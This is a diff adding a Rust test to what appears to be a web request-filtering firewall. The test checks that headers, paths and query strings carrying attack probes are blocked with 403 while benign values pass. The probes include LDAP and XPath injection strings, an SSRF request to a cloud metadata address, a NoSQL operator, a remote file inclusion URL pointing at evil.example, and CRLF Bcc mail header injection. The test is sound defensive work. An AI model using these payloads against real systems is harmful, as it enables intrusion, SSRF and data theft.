@@ -174,3 +174,65 @@ fn spooled_bodies_part_headers_and_xml_attributes_are_inspected() {
     let xml_ok = r#"<?xml version="1.0"?><order id="42" xmlns="http://example.com/ns"><item>O'Brien's book</item></order>"#;
     assert_eq!(post(&n, "/api/order", gray, "application/xml", xml_ok), 200);
 }
+
+/// Every header an application reads is a field for LDAP/XPath, NoSQL, XXE
+/// and, except the address-carrying ones, SSRF; path parameters too; query
+/// strings are checked for scanner probes; an include-named parameter given
+/// a remote URL is remote file inclusion; a line break opening an XML text
+/// node is header injection.
+#[test]
+fn headers_paths_and_query_probes_are_fields() {
+    let n = start("sig-fields");
+    let gray = "203.0.113.8";
+    let get = |path: &str, headers: &[(&str, &str)]| {
+        let mut h = vec![("X-Forwarded-For", gray)];
+        h.extend_from_slice(headers);
+        n.get(path, &h).status
+    };
+    assert_eq!(get("/api/users/42", &[("X-User", "alice")]), 200);
+    assert_eq!(
+        get("/api/users/42", &[("X-User", "*)(uid=*))(|(uid=*")]),
+        403
+    );
+    assert_eq!(
+        get("/api/users/42", &[("X-Sort", "' or name()='admin")]),
+        403
+    );
+    assert_eq!(
+        get(
+            "/api/users/42",
+            &[("X-Hook", "http://169.254.169.254/latest/")]
+        ),
+        403
+    );
+    // a developer's Referer carries a local address by design
+    assert_eq!(
+        get("/api/users/42", &[("Referer", "http://localhost:3000/app")]),
+        200
+    );
+    assert_eq!(get("/api/users/%7B%22$ne%22:null%7D", &[]), 403);
+    assert_eq!(get("/api/index.asp?|-|0|404_Object_Not_Found", &[]), 403);
+    assert_eq!(
+        get(
+            "/api/index.php?mosConfig_absolute_path=http://evil.example/",
+            &[]
+        ),
+        403
+    );
+    assert_eq!(
+        get(
+            "/api/media?image_path=https://cdn.example.com/logo.png",
+            &[]
+        ),
+        200
+    );
+    let mail = "<?xml version=\"1.0\"?><mail><to>\r\nBcc: all@evil.example</to></mail>";
+    assert_eq!(post(&n, "/api/send", gray, "text/xml", mail), 403);
+    let ok = "<?xml version=\"1.0\"?><mail><to>alice@example.com</to><body>Hi,\r\nTo: the team</body></mail>";
+    assert_eq!(post(&n, "/api/send", gray, "text/xml", ok), 200);
+    let log = n.error_log();
+    assert!(
+        !log.contains("[alert]") && !log.contains("[emerg]"),
+        "{log}"
+    );
+}
